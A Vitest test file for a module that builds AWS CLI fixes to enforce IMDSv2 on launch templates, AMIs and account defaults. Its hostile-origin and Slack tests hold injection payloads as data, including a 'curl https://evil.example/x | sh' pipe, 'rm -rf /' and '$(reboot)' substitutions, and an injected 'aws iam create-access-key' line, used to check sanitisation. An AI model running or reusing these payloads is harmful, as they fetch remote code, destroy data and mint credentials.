import { describe, expect, it } from "vitest";
import type { AccountPosture } from "../../shared/domain/account-posture.js";
import { describeEnforcement, type Enforcement } from "../../shared/domain/enforcement.js";
import type { InstanceResult, Origin, Verdict } from "../../shared/domain/model.js";
import {
  allowedImdsV1,
  commandRegion,
  describeOrigin,
  describePosture,
  sourceFixes,
} from "../../shared/domain/root-cause.js";

const REGION = "eu-west-1";
const LT = "lt-0a1b2c3d4e5f60718";
const AMI = "ami-0a1b2c3d4e5f60001";
const ENFORCED = "set HttpTokens=required (was optional)";

const ACCOUNT_OPTIONAL: AccountPosture = { httpTokens: "optional", httpTokensEnforced: false, managedBy: "account" };

/** The typed enforcement behind each sentence these tests use. */
const ENFORCEMENT_OF: Record<string, Enforcement> = {
  [ENFORCED]: { kind: "set-required", was: "optional", evidence: "answered" },
  "audit: would set HttpTokens=required (now optional)": { kind: "would-set-required", was: "optional" },
  "none: held": { kind: "held" },
  "none: HttpTokens was already required": { kind: "already-required" },
  "none: the IMDS endpoint is disabled, so there is no HttpTokens to set": { kind: "endpoint-disabled" },
  "none: exempt": { kind: "exempt" },
};

function enforced(instanceId: string, origin: Origin, verdict: Verdict = "pass", action = ENFORCED): InstanceResult {
  const enforcement = ENFORCEMENT_OF[action];
  if (!enforcement) throw new Error(`No enforcement for ${action}`);
  // The sentence is derived from the data, as in every real result.
  expect(describeEnforcement(enforcement)).toBe(action);
  return { instanceId, verdict, reason: `${verdict} reason`, warnings: [], action, enforcement, origin };
}

/** The spans a Chatbot (markdown) reader would take for commands: text between pairs of backticks. */
function codeSpans(text: string): string[] {
  return [...text.matchAll(/`([^`]*)`/g)].map((m) => m[1] ?? "");
}

/** The fix restates the endpoint (and the hop limit, when known): launch template data replaces MetadataOptions whole. */
const LT_COMMAND = (version?: string, hopLimit?: number, region = REGION) =>
  `aws ec2 create-launch-template-version --region ${region} --launch-template-id ${LT}${version ? ` --source-version ${version}` : ""} --launch-template-data '{"MetadataOptions":{"HttpTokens":"required","HttpEndpoint":"enabled"${hopLimit === undefined ? "" : `,"HttpPutResponseHopLimit":${hopLimit}`}}}'`;

/** The JSON a create-launch-template-version command passes as --launch-template-data. */
function launchTemplateData(command: string): unknown {
  const data = /--launch-template-data '([^']*)'/.exec(command)?.[1];
  return data === undefined ? undefined : JSON.parse(data);
}
const AMI_COMMAND = `aws ec2 modify-image-attribute --region ${REGION} --image-id ${AMI} --imds-support v2.0`;
const DEFAULT_COMMAND = `aws ec2 modify-instance-metadata-defaults --region ${REGION} --http-tokens required`;

describe("sourceFixes: launch templates", () => {
  it("gives the create-launch-template-version command from the source version, naming the Auto Scaling group", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", {
        launchTemplateId: LT,
        launchTemplateVersion: "7",
        autoScalingGroup: "web-asg",
      }),
    ];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toHaveLength(1);
    expect(codeSpans(fixes[0] ?? "")).toEqual([
      LT_COMMAND("7"),
      `aws autoscaling update-auto-scaling-group --region ${REGION} --auto-scaling-group-name web-asg --mixed-instances-policy '{"LaunchTemplate":{"LaunchTemplateSpecification":{"LaunchTemplateId":"${LT}","Version":"<new version>"}}}'`,
    ]);
    expect(fixes[0]).toContain(`Launch template ${LT} (version 7)`);
    expect(fixes[0]).toContain('point Auto Scaling group(s) "web-asg" at the new version');
  });

  it("leaves out --source-version when the version is not known, and the group sentence when there is none", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND()]);
    expect(fixes[0]).not.toContain("Auto Scaling");
  });

  it("gives one fix per launch template, naming every group that launches from it", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, launchTemplateVersion: "7", autoScalingGroup: "web-a" }),
      enforced("i-0a1b2c3d4e5f60002", { launchTemplateId: LT, launchTemplateVersion: "7", autoScalingGroup: "web-b" }),
      enforced("i-0a1b2c3d4e5f60003", { launchTemplateId: LT, launchTemplateVersion: "7", autoScalingGroup: "web-a" }),
    ];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toHaveLength(1);
    expect(fixes[0]).toContain('"web-a", "web-b"');
  });
});

describe("sourceFixes: what the launch template fix restates", () => {
  it.each([
    { label: "1 (no containers)", hopLimit: 1 },
    { label: "2 (containers)", hopLimit: 2 },
  ])("keeps the endpoint on and the instances' hop limit of $label", ({ hopLimit }) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, launchTemplateVersion: "7", hopLimit })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    const [command] = codeSpans(fixes[0] ?? "");
    expect(command).toBe(LT_COMMAND("7", hopLimit));
    expect(launchTemplateData(command ?? "")).toStrictEqual({
      MetadataOptions: { HttpTokens: "required", HttpEndpoint: "enabled", HttpPutResponseHopLimit: hopLimit },
    });
    expect(fixes[0]).toContain("check the template's other MetadataOptions (IPv6 endpoint, instance tags) carry over");
  });

  it("leaves the hop limit out when it is not known, and restates the endpoint anyway", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(launchTemplateData(codeSpans(fixes[0] ?? "")[0] ?? "")).toStrictEqual({
      MetadataOptions: { HttpTokens: "required", HttpEndpoint: "enabled" },
    });
  });

  it("takes the hop limit of the first instance that names the template, in one fix", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, hopLimit: 2 }),
      enforced("i-0a1b2c3d4e5f60002", { launchTemplateId: LT, hopLimit: 1 }),
    ];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toHaveLength(1);
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND(undefined, 2)]);
  });
});

describe("sourceFixes: Auto Scaling group names in Slack", () => {
  it.each([
    { label: "a Slack mention", group: "<!channel>", shown: '"??channel?"' },
    { label: "a user mention", group: "<@U024BE7LH> web", shown: '"?@U024BE7LH? web"' },
    { label: "backticks", group: "web`rm -rf /`", shown: '"web?rm -rf /?"' },
    { label: "a markdown link", group: "[login](https://evil.example/x)", shown: '"?login??https://evil.example/x?"' },
    { label: "emphasis and a quote", group: '*web*_"prod"_~x~', shown: '"?web?_?prod?_?x?"' },
    { label: "non-ASCII", group: "wéb-名前", shown: '"w?b-??"' },
  ])("shows a group name with $label with only inert characters", ({ group, shown }) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, autoScalingGroup: group })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes[0]).toContain(`point Auto Scaling group(s) ${shown} at the new version`);
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND()]);
    const name = /Auto Scaling group\(s\) "([^"]*)" at/.exec(fixes[0] ?? "")?.[1];
    expect(name).toMatch(/^[A-Za-z0-9 _.:/@+=,?-]+$/);
  });

  it("keeps a name made of the allowed characters as it is", () => {
    // Prepare
    const group = "web-asg_1.prod:eu/blue@team+x=y, 2";
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, autoScalingGroup: group })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes[0]).toContain(`point Auto Scaling group(s) "${group}" at the new version`);
  });

  it("cuts a long name at 255 characters", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, autoScalingGroup: "g".repeat(600) })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes[0]).toContain(`"${"g".repeat(255)}" at the new version`);
    expect(fixes[0]).not.toContain("g".repeat(256));
  });
});

describe("sourceFixes: AMIs", () => {
  it("gives the modify-image-attribute command for an AMI without ImdsSupport v2.0", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", { imageId: AMI, imageImdsSupport: "unset" }),
      enforced("i-0a1b2c3d4e5f60002", { imageId: AMI, imageImdsSupport: "unset" }),
    ];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toHaveLength(1);
    expect(fixes[0]).toContain(`AMI ${AMI} does not declare ImdsSupport v2.0`);
    expect(codeSpans(fixes[0] ?? "")[0]).toBe(AMI_COMMAND);
  });

  it.each(["v2.0", "unknown"])("gives no AMI command when its ImdsSupport is %s", (support) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { imageId: AMI, imageImdsSupport: support })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes.join("\n")).not.toContain("modify-image-attribute");
  });
});

describe("sourceFixes: the account default", () => {
  it.each(["optional", "no-preference"])("gives the account-default command when the default is %s", (httpTokens) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", {})];

    // Act
    const fixes = sourceFixes(results, REGION, { ...ACCOUNT_OPTIONAL, httpTokens });

    // Assess
    expect(fixes).toHaveLength(1);
    expect(fixes[0]).toContain(`The account default in ${REGION} is HttpTokens=${httpTokens}`);
    expect(codeSpans(fixes[0] ?? "")).toEqual([DEFAULT_COMMAND]);
  });

  it("says to change a default managed by a declarative policy in AWS Organizations, with no command", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", {})];
    const posture: AccountPosture = { ...ACCOUNT_OPTIONAL, managedBy: "declarative-policy" };

    // Act
    const fixes = sourceFixes(results, REGION, posture);

    // Assess
    expect(fixes).toEqual([
      `The account default in ${REGION} is HttpTokens=optional and is managed by a declarative policy: change it in AWS Organizations.`,
    ]);
  });

  it("gives no account fix when the default is already required", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT })];

    // Act
    const fixes = sourceFixes(results, REGION, { ...ACCOUNT_OPTIONAL, httpTokens: "required" });

    // Assess
    expect(fixes.join("\n")).not.toContain("account default");
  });

  it("lists the launch template, the AMI and the account default together, in that order", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, imageId: AMI, imageImdsSupport: "unset" }),
    ];

    // Act
    const fixes = sourceFixes(results, REGION, ACCOUNT_OPTIONAL);

    // Assess
    expect(fixes.map((f) => codeSpans(f)[0])).toEqual([LT_COMMAND(), AMI_COMMAND, DEFAULT_COMMAND]);
  });
});

describe("sourceFixes: what needs no fix", () => {
  it.each([
    { label: "already required at launch", verdict: "pass", action: "none: HttpTokens was already required" },
    {
      label: "with the endpoint disabled",
      verdict: "pass",
      action: "none: the IMDS endpoint is disabled, so there is no HttpTokens to set",
    },
    { label: "exempt", verdict: "exempt", action: "none: exempt" },
    { label: "terminated", verdict: "skipped", action: undefined },
  ] as const)("gives nothing for an instance $label, even with an optional account default", ({ verdict, action }) => {
    // Prepare
    const result: InstanceResult = {
      instanceId: "i-0a1b2c3d4e5f60001",
      verdict,
      reason: "r",
      warnings: [],
      ...(action ? { action, enforcement: ENFORCEMENT_OF[action] } : {}),
      origin: { launchTemplateId: LT, imageId: AMI, imageImdsSupport: "unset" },
    };

    // Act
    const fixes = sourceFixes([result], REGION, ACCOUNT_OPTIONAL);

    // Assess
    expect(fixes).toEqual([]);
  });

  it.each([
    { label: "held", verdict: "held", action: "none: held" },
    { label: "audited", verdict: "pass", action: "audit: would set HttpTokens=required (now optional)" },
  ] as const)("points at the source of an instance that was $label", ({ verdict, action }) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT }, verdict, action)];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND()]);
  });

  it("says where to set HttpTokens when the origin names no fixable source", () => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", {})];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toEqual([expect.stringContaining("launched without MetadataOptions.HttpTokens=required")]);
    expect(codeSpans(fixes[0] ?? "")).toEqual([]);
  });
});

describe("sourceFixes: hostile origins", () => {
  it.each([
    { label: "a launch template id with a shell command", origin: { launchTemplateId: "lt-123; rm -rf /" } },
    { label: "a launch template id with a substitution", origin: { launchTemplateId: "lt-0a1b2c3d$(reboot)" } },
    {
      label: "a launch template version with a shell command",
      origin: { launchTemplateId: LT, launchTemplateVersion: "7 --launch-template-data x; rm -rf /" },
    },
    {
      label: "an AMI id with a shell command",
      origin: { imageId: "ami-0a1b2c3d; rm -rf /", imageImdsSupport: "unset" },
    },
  ])("never splices $label into a command", ({ origin }) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", origin)];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    const commands = fixes.flatMap(codeSpans);
    for (const command of commands) {
      expect(command).not.toMatch(/rm -rf|\$\(|;/);
      expect(command).toMatch(/^aws ec2 [a-z-]+ --region eu-west-1 /);
    }
    expect(fixes.join("\n")).not.toContain("rm -rf");
  });

  it.each([
    { label: "backticks", group: "web`; curl https://evil.example/x | sh; echo `" },
    { label: "quotes", group: `web" --launch-template-data '{}' "` },
    { label: "a line break", group: "web\n- aws iam create-access-key" },
  ])("keeps an Auto Scaling group name with $label out of every command span", ({ group }) => {
    // Prepare
    const results = [enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, autoScalingGroup: group })];

    // Act
    const fixes = sourceFixes(results, REGION);

    // Assess
    expect(fixes).toHaveLength(1);
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND()]);
    expect(fixes[0]).not.toMatch(/[\r\n]/);
  });

  it("never splices a malformed region into a command", () => {
    // Prepare
    const results = [
      enforced("i-0a1b2c3d4e5f60001", { launchTemplateId: LT, imageId: AMI, imageImdsSupport: "unset" }),
    ];

    // Act
    const fixes = sourceFixes(results, "us-east-1; rm -rf ~", ACCOUNT_OPTIONAL);

    // Assess
    expect(fixes.flatMap(codeSpans).filter((c) => c.includes("rm -rf"))).toEqual([]);
    const commands = fixes.flatMap(codeSpans).filter((c) => c.startsWith("aws "));
    expect(commands.map((c) => c.split(" ").slice(0, 5).join(" "))).toEqual([
      "aws ec2 create-launch-template-version --region <region>",
      "aws ec2 modify-image-attribute --region <region>",
      "aws ec2 modify-instance-metadata-defaults --region <region>",
    ]);
    expect(codeSpans(fixes[0] ?? "")).toEqual([LT_COMMAND(undefined, undefined, "<region>")]);
  });

  it.each([
    { region: "eu-west-1", shown: "eu-west-1" },
    { region: "us-gov-west-1", shown: "us-gov-west-1" },
    { region: "ap-southeast-10", shown: "ap-southeast-10" },
    { region: "us-east-1; rm -rf ~", shown: "<region>" },
    { region: "US-EAST-1", shown: "<region>" },
    { region: "", shown: "<region>" },
    { region: "us-east-1\n", shown: "<region>" },
  ])("puts $region into a command as $shown", ({ region, shown }) => {
    // Prepare
    const input = region;

    // Act
    const out = commandRegion(input);

    // Assess
    expect(out).toBe(shown);
  });
});

describe("describeOrigin, describePosture, allowedImdsV1", () => {
  it("describes the launch template, group and AMI in one line", () => {
    // Prepare
    const origin: Origin = {
      launchTemplateId: LT,
      launchTemplateVersion: "7",
      autoScalingGroup: "web-asg",
      imageId: AMI,
      imageImdsSupport: "unset",
    };

    // Act
    const text = describeOrigin(origin);

    // Assess
    expect(text).toBe(`launch template ${LT} v7, Auto Scaling group web-asg, AMI ${AMI} (ImdsSupport unset)`);
  });

  it("says unknown for an AMI whose support was not read", () => {
    // Prepare
    const origin: Origin = { imageId: AMI };

    // Act
    const text = describeOrigin(origin);

    // Assess
    expect(text).toBe(`AMI ${AMI} (ImdsSupport unknown)`);
  });

  it("describes the account posture, and when the guard changed it", () => {
    // Prepare
    const posture: AccountPosture = {
      httpTokens: "required",
      httpTokensEnforced: true,
      managedBy: "account",
      changedByGuard: true,
    };

    // Act
    const text = describePosture(posture);

    // Assess
    expect(text).toBe(
      "account default HttpTokens=required, HttpTokensEnforced on, managed by account (set to required by the guard in this run)",
    );
  });

  it.each([
    { action: ENFORCED, verdict: "pass", allowed: true },
    { action: "audit: would set HttpTokens=required (now optional)", verdict: "pass", allowed: true },
    { action: "none: held", verdict: "held", allowed: true },
    { action: "none: HttpTokens was already required", verdict: "pass", allowed: false },
    { action: "none: exempt", verdict: "exempt", allowed: false },
  ] as const)("says $action allowed IMDSv1: $allowed", ({ action, verdict, allowed }) => {
    // Prepare
    const result = enforced("i-0a1b2c3d4e5f60001", {}, verdict, action);

    // Act
    const answer = allowedImdsV1(result);

    // Assess
    expect(answer).toBe(allowed);
  });
});
